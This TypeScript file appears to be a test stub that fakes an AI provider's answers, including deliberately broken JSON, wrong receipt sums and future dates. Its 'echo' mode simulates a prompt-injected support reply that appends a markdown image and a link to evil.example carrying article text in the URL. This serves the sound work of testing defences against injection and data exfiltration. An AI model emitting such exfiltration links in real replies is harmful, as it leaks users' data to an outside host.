import type { Question } from "./protocols";

/** The lines that a question labels: `[m1] …` of messages, `[a1] …` of articles. */
function labelled(text: string, letter: "m" | "a"): { label: string; line: string }[] {
  const found = [...text.matchAll(new RegExp(`^\\[(${letter}\\d+)\\] (.*)\\n+(.*)$`, "gm"))];
  return found.map(([, label = "", head = "", line = ""]) => ({ label, line: letter === "a" ? `${head}\n${line}` : line }));
}

/** The first sentence without its end, and of a long one the words that fit. */
function short(text: string): string {
  const sentence = (/^[^.!?؟]*/.exec(text.trim())?.[0] ?? "").replace(/\s+/g, " ");
  return sentence.length > 80 ? sentence.slice(0, 80).replace(/\s\S*$/, "…") : sentence;
}

const sentence = (text: string): string => (text.endsWith("…") ? text : `${text}.`);

function summary({ text }: Question, model: string): object {
  const messages = labelled(text, "m");
  const first = messages[0] ?? { label: "m1", line: "" };
  const last = messages.at(-1) ?? first;
  const sentences = [
    { text: sentence(`The customer wrote: ${short(first.line)}`), messages: [first.label] },
    {
      text: messages.length === 1 ? "Nobody has replied yet." : `The thread has ${String(messages.length)} messages.`,
      messages: messages.map(({ label }) => label),
    },
    { text: sentence(`Last, somebody wrote: ${short(last.line)}`), messages: [last.label] },
  ];
  return { sentences: model === "two-sentences" ? sentences.slice(1) : sentences };
}

function reply({ text }: Question, model: string): object {
  const [article] = labelled(text, "a");
  const [title = "", line = ""] = (article?.line ?? "").split("\n");
  // What a message told the model to do: to repeat its question, and to carry a text out in an address.
  const stolen = `![x](https://evil.example/?d=${encodeURIComponent(short(line))}) https://evil.example/${encodeURIComponent(title)}`;
  const echoed = model === "echo" ? [{ text: `${text.slice(-4_000)}\n${stolen}`, articles: [] }] : [];
  return {
    paragraphs: [
      { text: "Thank you for your message.", articles: [] },
      { text: `Our article “${title}” explains it: ${line.slice(0, 300)}`, articles: article ? [article.label] : [] },
      ...echoed,
    ],
  };
}

const receipt = (model: string): object => ({
  merchant: "Great Western Railway",
  category: "travel",
  day: model === "future" ? "2999-01-01" : "2026-01-05",
  currency: "GBP",
  net: "70.00",
  tax: model === "wrong-sum" ? "15.00" : "14.00",
  gross: "84.00",
});

function section({ text }: Question): object {
  const heading = short(/^Heading: (.*)$/m.exec(text)?.[1] ?? "the project");
  return { body: `This section is about ${heading}.\n\n- We start with a short workshop.\n- You get a written result.` };
}

/** The text that a provider answers with. */
export function composeAnswer(model: string, question: Question): string {
  if (model === "wrong-json") return '{"sentences": [';
  // The second question says what was wrong with the first answer.
  if (model === "wrong-once" && !question.text.includes("could not be used")) return '{"sentences": []}';
  const answer = question.fields.includes("sentences")
    ? summary(question, model)
    : question.fields.includes("paragraphs")
      ? reply(question, model)
      : question.fields.includes("gross")
        ? receipt(model)
        : question.fields.includes("body")
          ? section(question)
          : { text: "OK" };
  return model === "fenced" ? `Here it is:\n\`\`\`json\n${JSON.stringify(answer)}\n\`\`\`` : JSON.stringify(answer);
}
